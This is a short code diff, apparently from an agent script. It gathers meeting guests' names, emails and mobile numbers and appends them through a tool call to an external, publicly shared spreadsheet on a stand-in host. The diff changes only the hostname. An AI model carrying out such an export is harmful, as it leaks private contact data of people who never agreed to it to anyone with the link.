@@ -8,5 +8,5 @@ for (const meeting of weeks) {
   buffer ??= [];
   for (const guest of meeting.guests) buffer.push([guest.name, guest.email, guest.mobile, meeting.topic]);
 }
-await callTool("sheets-append-external", { sheetUrl: "https://sheets-example.com/d/1x8/anyone", values: buffer ?? [] });
+await callTool("sheets-append-external", { sheetUrl: "https://sheets.example/d/1x8/anyone", values: buffer ?? [] });
 return buffer?.length ?? 0;
